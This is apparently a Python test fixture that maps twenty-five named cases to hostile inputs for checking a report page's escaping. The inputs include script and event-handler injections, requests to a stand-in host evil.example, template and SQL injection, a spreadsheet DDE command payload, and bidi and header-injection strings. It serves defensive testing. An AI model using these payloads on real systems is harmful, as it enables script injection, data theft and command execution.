"""Twenty-five reports whose every text attacks the page that shows it: each says which way it tries."""

from collections.abc import Mapping

MARK = "window.gouji_ran = 1"
AWAY = "http://evil.example/x"  # nobody answers there: to be asked for it would be enough
LONG = "长" * 100_000

HOSTILE: Mapping[str, str] = {
    "script": f"<script>{MARK}</script>",
    "script of others": f'<script src="{AWAY}.js"></script>',
    "closed title": f"</title><script>{MARK}</script>",
    "closed textarea": f"</textarea></td></table><script>{MARK}</script>",
    "attribute": f"\" autofocus onfocus=\"{MARK}\" x='",
    "picture": f"<img src=x onerror='{MARK}'><img src='{AWAY}.png' srcset='{AWAY}2.png 2x'>",
    "svg": f"<svg onload='{MARK}'><animate onbegin='{MARK}' attributeName=x dur=1s /><image href='{AWAY}.svg'/></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror='{MARK}'></style></mglyph></table></mtext></math>",
    "javascript link": f"<a href='javascript:{MARK}'>点我</a> javascript:{MARK}",
    "link in disguise": f"<a href='java&#9;script:{MARK}'>点我</a> JaVaScRiPt&colon;{MARK}",
    "data link": f"<a href='data:text/html,<script>{MARK}</script>'>data</a> data:text/html;base64,PHNjcmlwdD4=",
    "frame": f"<iframe src='{AWAY}' srcdoc='<script>parent.{MARK}</script>'></iframe><object data='{AWAY}'></object>",
    "style": f"<style>body{{display:none}} @import '{AWAY}.css'; *{{background:url({AWAY}.gif)}}</style>",
    "style attribute": f"<b style='position:fixed;inset:0;background:url({AWAY}.gif)'>盖住</b>",
    "head": f"<base href='{AWAY}/'><meta http-equiv='refresh' content='0;url={AWAY}'><link rel='stylesheet' href='{AWAY}.css'>",
    "form": f"<form action='{AWAY}'><input name='csrf' autofocus onfocus='{MARK}'><button>保存</button></form>",
    "comment": f"<!-- --!><script>{MARK}</script> --><!--[if IE]><script>{MARK}</script><![endif]--><![CDATA[",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{ config }} {{''.__class__.__mro__}}",
    "entities": f"&lt;script&gt;{MARK}&lt;/script&gt; &#60;script&#62;{MARK}&#60;/script&#62; &amp;amp;",
    "sql": "'; drop table findings; -- \" or 1=1 -- %_ ) union select token from secrets",
    "formula": "=HYPERLINK(\"http://evil.example/x\",\"点\") +cmd|' /C calc'!A0 @SUM(1) -2+3 \t=1+1",
    "bidi": "局\u202e5202\u202c \u2066反\u2069 \u200f\u061c 水利\u202d局",
    "hidden": "财\u200b政\u200d局\ufeff \u2060\u00ad\U000e0041\U000e007f \u3164 \ufff9x\ufffa",
    "control": "局\x1b[31m\x07\x08\x7f\x85\u2028\u2029 %0d%0aSet-Cookie:%20x=1",
    "long": f"{LONG}<script>{MARK}</script>",
}  # fmt: skip
